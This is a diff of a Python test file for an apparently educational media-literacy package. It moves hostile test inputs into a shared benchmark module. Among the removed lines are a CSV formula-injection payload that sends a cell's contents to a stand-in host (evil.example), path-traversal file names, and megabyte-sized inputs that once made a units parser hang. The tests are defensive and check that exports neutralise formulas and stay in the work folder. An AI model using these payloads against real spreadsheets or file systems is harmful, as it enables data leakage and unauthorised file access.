@@ -79,17 +79,19 @@ def test_every_control_has_an_accessible_label(cls):
 
 # --- issue 15: a megabyte of anything, paths out of my_work/, formulas in CSV, pint arithmetic ------------------
 
-MB = 1_000_000
-#: 1 MB inputs, each aimed at a cost that once grew without bound (issue 15) or at a parser's worst case.
-MEGABYTE_TEXT = {
-    "dollars": "$5 " * (MB // 3),  # once 333,000 draft rows and 529 MB
-    "pint power": "5 km*" + "9**" * (MB // 3) + "9",  # pint evaluated "5 km*9**9**8" for 76 s
-    "unit letters": "5 " + "k" * MB,  # pint's unit-name search is quadratic: 16,000 letters took 1.8 s
-    "digits": "9" * MB,
-    "formula": '=HYPERLINK("http://evil.example/?leak="&B2,"x")' * (MB // 48),
-    "quotes": "'" * MB,
-    "sentences": "A. " * (MB // 3),
-}
+def _load_robustness():
+    """The hostile inputs live once, in the benchmark that measures them."""
+    import importlib.util
+    from pathlib import Path
+
+    spec = importlib.util.spec_from_file_location("robustness", Path(__file__).resolve().parent.parent / "benchmarks" / "robustness.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+robustness = _load_robustness()
+MB, MEGABYTE_TEXT, FORMULAS, ESCAPES = robustness.MB, robustness.MEGABYTE_TEXT, robustness.FORMULAS, robustness.ESCAPES
 #: Each learner-reachable call must answer 1 MB in well under this (best of two runs, so a load spike from
 #: other work on a shared machine is not read as a slow algorithm).
 BOUND_SECONDS = 1.0
@@ -208,10 +210,6 @@ def test_load_table_refuses_a_megabyte_name_quickly():
 
 # --- files: where they may go, and what a spreadsheet makes of them -------------------------------------------
 
-ESCAPES = ["../data/claims.csv", "../data/samples/harbour_briefing_claims.csv", "../lessons/evil.ipynb.csv", "~/x.csv",
-           "../solutions/00_start_here.csv", "/tmp/medialit-escape.csv", "sub/../../x.csv"]
-
-
 @pytest.mark.parametrize("path", ESCAPES)
 def test_no_export_leaves_the_work_folder(my_work, path):
     from medialit import storage
@@ -232,32 +230,13 @@ def test_no_export_leaves_the_work_folder(my_work, path):
     assert ml.load_claims() is not None  # the ledger still loads in this kernel
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]
-
-
-def _exports(my_work):
-    """An answers export and a curated ledger, both holding text that would run as formulas."""
-    from medialit.widgets.ledger_curator import LedgerCurator, choose_article
-
-    for formula in FORMULAS:
-        ml.check("01.4", formula)
-    ml.check("03.4", -2084)
-    ml.check("03.6", FORMULAS[:3])
-    ml.export_answers()
-    article = choose_article(pasted=" ".join(f"{formula} said 40 km of road were closed." for formula in FORMULAS))
-    curator = LedgerCurator(article, name="formulas")
-    curator.edit(0, speaker="=1+1")
-    assert curator.export_csv("ledger.csv").startswith("Saved")
-    return sorted(my_work.glob("*.csv"))
-
-
 def test_exported_cells_never_start_like_a_formula_and_read_back_exactly(my_work):
     import csv
 
     from medialit import storage
 
-    files = _exports(my_work)
-    assert len(files) >= 3  # answers, the curator's autosave, ledger.csv
+    files = robustness.write_hostile_exports()
+    assert len(files) >= 3  # answers, the curator's autosave, formulas.csv
     neutralised = 0
     for path in files:
         with path.open(encoding="utf-8", newline="") as handle:
@@ -265,7 +244,7 @@ def test_exported_cells_never_start_like_a_formula_and_read_back_exactly(my_work
         assert not [cell for cell in cells if cell[:1] in storage.FORMULA_STARTS], path.name
         neutralised += sum(cell[:1] == "'" for cell in cells)
     assert neutralised >= len(FORMULAS)
-    ledger = storage.read_csv("ledger.csv")
+    ledger = storage.read_csv("formulas.csv")
     assert ledger["speaker"].iloc[0] == "=1+1" and ledger["sentence"].iloc[0].startswith(FORMULAS[0])
 
 
@@ -284,9 +263,9 @@ def test_a_spreadsheet_engine_runs_no_formula_from_an_export(my_work, tmp_path):
                     "directly by test_exported_cells_never_start_like_a_formula_and_read_back_exactly")
     from medialit import storage
 
-    files = _exports(my_work)
+    files = robustness.write_hostile_exports()
     unguarded = tmp_path / "unguarded.csv"
-    unguarded.write_text(storage.read_csv("ledger.csv").to_csv(index=False), encoding="utf-8")
+    unguarded.write_text(storage.read_csv("formulas.csv").to_csv(index=False), encoding="utf-8")
     converted = tmp_path / "converted"
     subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless", "--convert-to", "ods",
                     "--outdir", str(converted), *map(str, files), str(unguarded)], check=True, capture_output=True, timeout=300)
